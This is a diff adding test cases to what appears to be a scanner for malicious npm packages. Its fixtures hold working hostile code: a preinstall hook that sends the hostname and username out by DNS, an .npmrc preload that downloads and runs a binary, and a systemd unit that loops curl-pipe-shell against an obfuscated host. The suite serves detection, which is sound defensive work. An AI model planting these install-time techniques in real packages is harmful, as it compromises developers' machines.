@@ -2498,3 +2498,53 @@ module.exports = new Cfg();`,
     expect(threatsOf(r)).toEqual([]);
   });
 });
+
+describe('code npm runs by other routes (rounds 15 and 16)', () => {
+  it('`node -e "require(\'./lib/probe\').run()"` in preinstall: the required file runs at install time', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'ledger-shared',
+        version: '97.1.0',
+        scripts: { preinstall: `node -e "require('./lib/probe').run()"` },
+      }),
+      'lib/probe.js': `const os = require('os'), dns = require('dns');
+exports.run = () => { const id = Buffer.from(JSON.stringify({ h: os.hostname(), u: os.userInfo().username })).toString('hex').slice(0, 60); dns.lookup(id + '.b.ledger-probe.example', () => {}); };`,
+    });
+    expect(r.evidence.find((f) => f.rule === 'js.exfil-fingerprint')?.install_time).toBe(true);
+    expect(r.risk_level).toBe('critical');
+  });
+  it('a shipped .npmrc whose node-options preload a file that downloads and starts a program', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'api-template', version: '1.0.0', private: true }),
+      '.npmrc': 'fund=false\nnode-options=--require ./tools/warm.cjs\n',
+      'tools/warm.cjs': `const https = require('https'), fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
+const bin = path.join(os.tmpdir(), '.swc-cache', 'helper');
+https.get('https://198.51.100.23/h', (res) => { const f = fs.createWriteStream(bin, { mode: 0o755 }); res.pipe(f); f.on('finish', () => cp.spawn(bin, [], { detached: true, stdio: 'ignore' }).unref()); });`,
+    });
+    expect(r.evidence.filter((f) => f.install_time).map((f) => f.rule)).toContain('js.drop-and-run');
+  });
+  it('a class getter that builds the command (`this.loop`), written into a systemd unit', () => {
+    const r = load({
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
+class Watch {
+  get src() { return 'https://' + ['hb', 'cron-watch', 'example'].join('.') + '/h'; }
+  get loop() { return 'while true; do curl -fsSL ' + this.src + ' | sh; sleep 600; done'; }
+  install() { fs.writeFileSync(path.join(os.homedir(), '.config/systemd/user/watch.service'), '[Service]\\nExecStart=/bin/sh -c "' + this.loop + '"\\n'); }
+}
+new Watch().install();`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('shell.download-pipe-shell');
+  });
+  it('quiet: node-options that only raise the heap, and an inline require that prints a banner', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'api-template',
+        version: '1.0.0',
+        scripts: { postinstall: `node -e "require('./lib/banner')()"` },
+      }),
+      '.npmrc': 'node-options=--max-old-space-size=4096\n',
+      'lib/banner.js': `module.exports = () => console.log('api-template installed: run npm run dev');`,
+    });
+    expect(threatsOf(r)).toEqual([]);
+  });
+});
